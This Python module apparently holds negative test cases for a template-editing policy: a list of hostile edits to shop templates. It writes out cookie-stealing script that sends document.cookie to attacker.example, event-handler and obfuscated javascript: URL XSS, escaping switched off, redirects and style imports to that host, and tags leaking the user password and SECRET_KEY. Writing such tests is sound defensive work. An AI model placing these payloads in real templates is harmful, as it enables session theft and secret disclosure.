"""Edits that attack: scripts, handlers, URLs, template tags and variables that no payload may use.

Each applies cleanly, so it translates and is proven; the policy refuses it, and its person stays where they are.
"""

from phoenix.demo.edits.edit import Edit, Legacy, Level
from phoenix.demo.edits.strokes import Stroke, insert_after, insert_before, swap

CARD, CARD_NOW = "shop.product_card", "2.2"
PROMO, PROMO_NOW = "shop.promo_banner", "2.1"
CART, CART_NOW = "shop.cart_summary", "2.1"

_ELSEWHERE = "https://attacker.example"


def _edit(name: str, component: str, version: str, *strokes: Stroke) -> Edit:
    return Edit(name, component, Level.SIMPLE, strokes, {version: Legacy.CLEAN})


HOSTILE = (
    _edit(
        "script",
        CARD,
        CARD_NOW,
        insert_after('<p class="brand">', f'<script>location="{_ELSEWHERE}/?c="+document.cookie</script>'),
    ),
    _edit("event-handler", CARD, CARD_NOW, swap('data-action="add"', 'data-action="add" onclick="alert(document.cookie)"')),
    _edit("javascript-url", CARD, CARD_NOW, insert_after('<h3 class="title">', '<a href="javascript:alert(1)">More</a>')),
    _edit(
        "javascript-url-split-by-comment",
        CARD,
        CARD_NOW,
        insert_after('<h3 class="title">', '<a href="java{# nothing #}script:alert(1)">More</a>'),
    ),
    _edit(
        "javascript-url-split-by-variable",
        CARD,
        CARD_NOW,
        insert_after('<h3 class="title">', '<a href="javascript{{ product.nothing }}:alert(1)">More</a>'),
    ),
    _edit("data-url", CARD, CARD_NOW, insert_after('<h3 class="title">', '<iframe src="data:text/html,hello"></iframe>')),
    _edit("svg-handler", PROMO, PROMO_NOW, insert_before('<p class="promo-text">', '<svg onload="alert(1)"></svg>')),
    _edit("marks-as-safe", PROMO, PROMO_NOW, swap("{{ promo.text }}", "{{ promo.text|safe }}")),
    _edit(
        "switches-escaping-off",
        PROMO,
        PROMO_NOW,
        swap("{{ promo.text }}", "{% autoescape off %}{{ promo.text }}{% endautoescape %}"),
    ),
    _edit(
        "refreshes-elsewhere",
        PROMO,
        PROMO_NOW,
        insert_before("<aside", f'<meta http-equiv="refresh" content="0;url={_ELSEWHERE}">'),
    ),
    _edit("imported-style", PROMO, PROMO_NOW, insert_before("<aside", f"<style>@import url({_ELSEWHERE}/x.css);</style>")),
    _edit("loads-library", CART, CART_NOW, insert_before("<section", "{% load cache %}")),
    _edit("includes-admin", CART, CART_NOW, insert_after('<p class="cart-note">', '{% include "admin/base.html" %}')),
    _edit("debug", CART, CART_NOW, insert_after('<p class="cart-note">', "<pre>{% debug %}</pre>")),
    _edit("password", CART, CART_NOW, insert_after('<p class="cart-note">', "<i>{{ request.user.password }}</i>")),
    _edit("secret-key", CART, CART_NOW, insert_after('<p class="cart-note">', "<i>{{ settings.SECRET_KEY }}</i>")),
    _edit("huge-padding", CART, CART_NOW, insert_after('<p class="cart-note">', '<i>{{ cart.currency|center:"900000000" }}</i>')),
)
